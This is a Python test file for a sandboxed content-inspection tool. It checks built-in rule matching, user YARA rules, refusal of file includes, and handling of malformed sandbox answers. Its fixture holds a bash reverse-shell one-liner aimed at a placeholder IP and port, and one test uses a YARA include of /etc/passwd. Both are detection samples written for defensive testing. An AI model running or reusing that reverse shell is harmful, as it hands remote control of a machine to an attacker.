"""Bytes looked at in a child behind walls."""

from __future__ import annotations

import msgspec
import pytest

from periderm.adapters.sandbox_linux.sandbox import LinuxSandbox
from periderm.flow.inspect import Inspection
from periderm.model.content import Inspected
from periderm.model.errors import SandboxError

SHELL = b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n"


def names(answers: object) -> list[list[str]]:
    """The rules that matched each payload."""
    return [[m.rule for m in msgspec.msgpack.decode(a, type=Inspected).matches] for a in answers]  # type: ignore[attr-defined] -- bytes


def test_own_rules_in_a_real_child() -> None:
    """Each payload has its answer, in order."""
    assert names(Inspection(LinuxSandbox(), tuple)([SHELL, b"", b"plain", SHELL])) == [["CON-002"], [], [], ["CON-002"]]


def test_users_rules_come_and_go() -> None:
    """They hold as soon as they are there; wrong ones are told, and those before stay in force."""
    rules: list[tuple[str, str]] = []
    inspection = Inspection(LinuxSandbox(), lambda: rules)
    assert names(inspection([b"needle"])) == [[]]
    rules.append(("mine.yar", 'rule mine { strings: $a = "needle" condition: $a }'))
    assert names(inspection([b"needle"])) == [["yara:mine"]]
    rules.append(("bad.yar", "rule bad { condition: nonsense }"))
    assert names(inspection([b"needle"])) == [["yara:mine"]]
    assert "bad.yar" in inspection.problem
    rules.pop()
    assert names(inspection([b"needle"])) == [["yara:mine"]]
    assert inspection.problem == ""


def test_rules_read_no_files() -> None:
    """An include in a user's rules is refused."""
    inspection = Inspection(LinuxSandbox(), lambda: [("x.yar", 'include "/etc/passwd"\nrule a { condition: true }')])
    assert names(inspection([b"x"])) == [[]]
    assert "x.yar" in inspection.problem


class Liar:
    """A sandbox whose child says what it likes."""

    def __init__(self, answer: bytes) -> None:
        self.answer = answer

    def lacks(self) -> tuple[()]:
        return ()

    def run(self, *_: object, **__: object) -> bytes:
        return self.answer


@pytest.mark.parametrize("answer", [b"", b"\xc1", msgspec.msgpack.encode([]), msgspec.msgpack.encode([b"x", b"y"])])
def test_a_child_that_lies(answer: bytes) -> None:
    """An answer that does not fit is an error, never a match."""
    with pytest.raises(SandboxError):
        Inspection(Liar(answer), tuple)([b"x"])
